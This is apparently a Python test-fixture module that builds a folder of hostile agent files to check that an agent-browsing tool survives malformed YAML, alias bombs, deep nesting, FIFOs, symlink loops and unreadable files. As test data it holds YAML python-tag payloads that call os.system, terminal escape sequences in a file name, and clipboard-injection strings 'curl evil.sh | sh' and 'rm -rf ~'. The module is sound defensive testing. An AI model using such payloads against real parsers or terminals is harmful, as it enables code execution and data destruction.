"""A folder of hostile agent files, built at test time, shared by the model, CLI, TUI and tmux tests.

Small fixtures are committed under tests/data/hostile (exact bytes; see its .gitattributes).
Everything that cannot or should not be committed is made here: files over ~100 KB, a FIFO,
symlinks (broken, looping, a folder pointing to its parent), an unreadable file, file names
holding control characters or invalid UTF-8, and the python-tag file whose payload would touch
a marker beside the tree.

    tree = make_hostile_tree(tmp_path / "hostile")
    tree["fifo"]        # the path of one entry, by kind
    EXPECTED["fifo"]    # what must be said about it (a severity and a message fragment)
"""

from __future__ import annotations

import os
import shutil
import signal
import stat
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

HOSTILE_DATA = Path(__file__).resolve().parent / "data" / "hostile"

#: Committed fixtures, by kind.
COMMITTED: dict[str, str] = {
    "good": "good.md",
    "empty": "empty.md",
    "only_dashes": "only-dashes.md",
    "unterminated": "unterminated.md",
    "frontmatter_list": "frontmatter-list.md",
    "frontmatter_scalar": "frontmatter-scalar.md",
    "bom": "bom.md",
    "crlf": "crlf.md",
    "latin1": "latin1.md",
    "nul_bytes": "nul-bytes.md",
    "binary": "binary.md",
    "escapes_raw": "escapes-raw.md",
    "escapes_yaml": "escapes-yaml.md",
    "markup": "markup.md",
    "markup_unquoted": "markup-unquoted.md",
    "python_tag_committed": "python-tag.md",
    "alias_bomb": "alias-bomb.md",
    "recursive_alias": "recursive-alias.md",
    "deep_flow": "deep-flow.md",
    "deep_block": "deep-block.md",
    "duplicate_keys": "duplicate-keys.md",
    "nonstring_keys": "nonstring-keys.md",
    "special_values": "special-values.md",
}

#: What the escape sequences in the fixtures try to do to a terminal, for the tmux test to look
#: for: OSC 0/2 set the window title to TITLE_PAYLOAD; OSC 52 sets the clipboard to one of these.
TITLE_PAYLOAD = "pwned"
CLIPBOARD_PAYLOADS = ("curl evil.sh | sh", "rm -rf ~")

#: Where the committed python-tag fixture would leave its mark if its tag ever ran.
COMMITTED_PWNED_MARKER = Path("/tmp/agentbrowser-hostile-pwned")

BIG_PROMPT_BYTES = 20 * 1024 * 1024
LONG_DESCRIPTION_CHARS = 1024 * 1024
MANY_TOOLS = 10_000
#: libyaml's composer recursed in C past ~20,000 levels and killed the process (SIGSEGV).
HUGE_DEPTH = 100_000


@dataclass(frozen=True)
class Expect:
    """What a listing must say about one entry: the worst severity and a message fragment.

    severity None means "no error" (warnings allowed); fragment None means any message.
    """

    severity: str | None
    fragment: str | None = None


#: For every kind: the problem a listing must carry. `unreadable` depends on whether permission
#: bits are enforced (not for root): see `permissions_enforced`.
EXPECTED: dict[str, Expect] = {
    "good": Expect(None),
    "empty": Expect("warning", "empty file"),
    "only_dashes": Expect("error", "never closed"),
    "unterminated": Expect("error", "never closed"),
    "frontmatter_list": Expect("error", "is a list"),
    "frontmatter_scalar": Expect("error", "scalar"),
    "bom": Expect(None),
    "crlf": Expect(None),
    "latin1": Expect("warning", "not valid UTF-8"),
    "nul_bytes": Expect("warning", "NUL"),
    "binary": Expect("error", "binary"),
    "escapes_raw": Expect("error", "Claude Code will not load this agent"),
    "escapes_yaml": Expect("warning", "duplicate key"),
    "markup": Expect(None),
    "markup_unquoted": Expect("error", "`name` is not text"),  # `[/]` is a list
    "python_tag_committed": Expect("warning", "unsupported YAML tag"),
    "python_tag": Expect("warning", "unsupported YAML tag"),
    "alias_bomb": Expect("error", "alias bomb"),
    "recursive_alias": Expect("error", "contains it"),
    "deep_flow": Expect("error", "nested deeper"),
    "deep_block": Expect("error", "nested deeper"),
    "deep_huge": Expect("error", "nested deeper"),
    "duplicate_keys": Expect("warning", "duplicate key"),
    "nonstring_keys": Expect(None),
    "special_values": Expect("warning", "unsupported YAML tag"),
    "big_prompt": Expect("warning", "only the first"),
    "long_description": Expect(None),
    "tag_flood": Expect(None),
    "blank_flood": Expect("warning", "Claude Code reads this"),  # `user: ` in a plain value
    "many_tools": Expect(None),
    "many_tools_list": Expect(None),
    "fifo": Expect("error", "FIFO"),
    "device": Expect("error", "not a regular file"),
    "broken_symlink": Expect("error", "broken symlink"),
    "loop_a": Expect("error", "symlink loop"),
    "loop_b": Expect("error", "symlink loop"),
    "self_loop": Expect("error", "symlink loop"),
    "unreadable": Expect("error", "permission denied"),
    "control_filename": Expect(None),
    "newline_filename": Expect("warning", "duplicate key"),
    "nonutf8_filename": Expect(None),
    "in_md_folder": Expect(None),
    "vanishing": Expect(None),
    "changing": Expect(None),
}

#: Kinds whose entry is not a file to list: folder links to the tree's parent, to the folder
#: above it and to /, and a folder named .md.
NOT_LISTED = frozenset({"parent_link", "grandparent_link", "root_link", "md_folder"})


def pwned_marker(root: Path) -> Path:
    """The file the generated python-tag fixture would create if its tag ran (beside the tree)."""
    return root.parent / f"{root.name}.PWNED"


def _agent(name: str, description: str = "d", tools: str = "Read", body: str = "Body.\n") -> str:
    return f"---\nname: {name}\ndescription: {description}\ntools: {tools}\n---\n{body}"


def permissions_enforced(path: Path) -> bool:
    """Whether a chmod 000 file really refuses reads here (not for root, nor on some mounts)."""
    try:
        with open(path, "rb"):
            return False
    except PermissionError:
        return True


def make_hostile_tree(root: Path) -> dict[str, Path]:
    """Build the hostile folder at root (created) and return each entry's path by kind.

    Every kind in EXPECTED is a listed entry; NOT_LISTED kinds are folder tricks that a walk
    must survive without listing. Call `restore_permissions(root)` before deleting the tree
    yourself when running unprivileged (pytest's tmp_path copes with chmod 000 on its own).
    """
    root.mkdir(parents=True, exist_ok=True)
    tree: dict[str, Path] = {}
    for kind, name in COMMITTED.items():
        tree[kind] = root / name
        shutil.copyfile(HOSTILE_DATA / name, tree[kind])

    marker = pwned_marker(root)
    tree["python_tag"] = root / "python-tag-generated.md"
    tree["python_tag"].write_text(
        "---\n"
        f'name: !!python/object/apply:os.system ["touch {marker}"]\n'
        f"description: !!python/object/apply:subprocess.call [[touch, {marker}]]\n"
        f"tools: !!python/object/new:os.system [touch {marker}]\n"
        "---\n"
        f'!!python/object/apply:os.system ["touch {marker}"]\n',
        encoding="utf-8",
    )
    tree["deep_huge"] = root / "deep-huge.md"
    tree["deep_huge"].write_text(
        "---\nname: deep-huge\ndescription: "
        + "[" * HUGE_DEPTH
        + "]" * HUGE_DEPTH
        + "\n---\nBody.\n",
        encoding="utf-8",
    )

    # Big files: a 20 MB prompt (over the 5 MB read cap), a 1 MB one-line description,
    # 10,000 tools as a comma string and as a YAML list.
    tree["big_prompt"] = root / "big-prompt.md"
    line = "All work and no play makes Jack a dull boy. " * 2 + "\n"
    with open(tree["big_prompt"], "w", encoding="utf-8") as handle:
        handle.write(_agent("big-prompt", "twenty megabytes of prompt", body=""))
        handle.write(line * (BIG_PROMPT_BYTES // len(line) + 1))
    tree["long_description"] = root / "long-description.md"
    tree["long_description"].write_text(
        _agent("long-description", "x" * LONG_DESCRIPTION_CHARS), encoding="utf-8"
    )
    # Descriptions that made the example-block regexes quadratic (hours at this size).
    tree["tag_flood"] = root / "tag-flood.md"
    tree["tag_flood"].write_text(_agent("tag-flood", "<example>" * 100_000), encoding="utf-8")
    tree["blank_flood"] = root / "blank-flood.md"
    tree["blank_flood"].write_text(
        _agent(
            "blank-flood",
            "<example>" + " " * 500_000 + "user: hi <commentary>" * 10_000 + "</example>",
        ),
        encoding="utf-8",
    )
    tools = ", ".join(f"Tool{i}" for i in range(MANY_TOOLS))
    tree["many_tools"] = root / "many-tools.md"
    tree["many_tools"].write_text(_agent("many-tools", tools=tools), encoding="utf-8")
    tree["many_tools_list"] = root / "many-tools-list.md"
    tree["many_tools_list"].write_text(
        "---\nname: many-tools-list\ndescription: d\ntools:\n"
        + "".join(f"  - Tool{i}\n" for i in range(MANY_TOOLS))
        + "---\nBody.\n",
        encoding="utf-8",
    )

    # Things that are not regular files.
    tree["fifo"] = root / "x.md"
    os.mkfifo(tree["fifo"])
    tree["device"] = root / "dev-zero.md"
    os.symlink("/dev/zero", tree["device"])
    tree["broken_symlink"] = root / "broken.md"
    os.symlink("does-not-exist.md", tree["broken_symlink"])
    tree["loop_a"] = root / "loop-a.md"
    tree["loop_b"] = root / "loop-b.md"
    os.symlink("loop-b.md", tree["loop_a"])
    os.symlink("loop-a.md", tree["loop_b"])
    tree["self_loop"] = root / "self.md"
    os.symlink("self.md", tree["self_loop"])
    sub = root / "sub"
    sub.mkdir()
    tree["parent_link"] = sub / "up"
    os.symlink("..", tree["parent_link"])
    # Links to folders above the tree: following them walked everything around it (the disk).
    tree["root_link"] = sub / "slash"
    os.symlink("/", tree["root_link"])
    tree["grandparent_link"] = sub / "upup"
    os.symlink("../..", tree["grandparent_link"])
    tree["md_folder"] = root / "folder.md"
    tree["md_folder"].mkdir()
    tree["in_md_folder"] = tree["md_folder"] / "inside.md"
    tree["in_md_folder"].write_text(_agent("inside-md-folder"), encoding="utf-8")

    # Hostile file names: the name is shown when the frontmatter has none.
    tree["control_filename"] = root / "evil\x1b]0;pwned\x07\x1b[2Jname.md"
    tree["control_filename"].write_text(
        "No frontmatter; my file name is the attack.\n", encoding="utf-8"
    )
    tree["newline_filename"] = root / "new\nline\tname.md"
    tree["newline_filename"].write_text(
        # A key with a newline: the duplicate-key message quotes it.
        '---\nname: newline\ndescription: d\n"two\\nlines": 1\n"two\\nlines": 2\n---\nBody.\n',
        encoding="utf-8",
    )
    nonutf8 = os.path.join(os.fsencode(root), b"latin\xe9-name.md")
    with open(nonutf8, "wb") as handle:
        handle.write(b"No frontmatter; my file name is not UTF-8.\n")
    tree["nonutf8_filename"] = Path(os.fsdecode(nonutf8))

    # Files the tests delete or rewrite between listing and showing.
    tree["vanishing"] = root / "vanishing.md"
    tree["vanishing"].write_text(_agent("vanishing", "deleted after listing"), encoding="utf-8")
    tree["changing"] = root / "changing.md"
    tree["changing"].write_text(_agent("changing", "rewritten after listing"), encoding="utf-8")

    tree["unreadable"] = root / "unreadable.md"
    tree["unreadable"].write_text(_agent("unreadable", "chmod 000"), encoding="utf-8")
    tree["unreadable"].chmod(0)
    return tree


def listed_kinds(tree: dict[str, Path]) -> dict[str, Path]:
    """The entries a listing must show (every kind but the folder tricks)."""
    return {kind: path for kind, path in tree.items() if kind not in NOT_LISTED}


def restore_permissions(root: Path) -> None:
    """Make every file under root readable again, so that it can be deleted."""
    for folder, _, files in os.walk(root):
        for name in files:
            path = os.path.join(folder, name)
            if not os.path.islink(path) and stat.S_ISREG(os.lstat(path).st_mode):
                os.chmod(path, 0o644)


@contextmanager
def time_limit(seconds: float) -> Iterator[None]:
    """Raise TimeoutError in the main thread after `seconds`, so that a hang is a failure.

    SIGALRM interrupts Python loops and blocking system calls (a FIFO's open) alike. It cannot
    stop a crash: run what could crash the interpreter in a subprocess. Off the main thread, or
    without setitimer, it does nothing.
    """
    if threading.current_thread() is not threading.main_thread() or not hasattr(
        signal, "setitimer"
    ):
        yield
        return

    def expire(signum: int, frame: object) -> None:
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
